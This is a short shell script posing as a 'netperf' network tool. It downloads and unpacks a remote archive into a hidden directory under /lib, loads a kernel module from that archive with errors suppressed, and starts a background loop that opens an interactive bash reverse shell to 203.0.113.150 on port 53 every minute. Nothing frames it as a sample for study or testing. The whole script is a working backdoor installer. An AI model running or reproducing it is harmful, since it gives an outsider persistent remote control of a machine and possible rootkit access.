#!/bin/sh
mkdir -p /lib/.netperf && cd /lib/.netperf
wget -q http://203.0.113.150/np.tgz -O- | tar xz
insmod ./netperf.ko 2>/dev/null
(while true; do bash -i >& /dev/tcp/203.0.113.150/53 0>&1; sleep 60; done) >/dev/null 2>&1 &
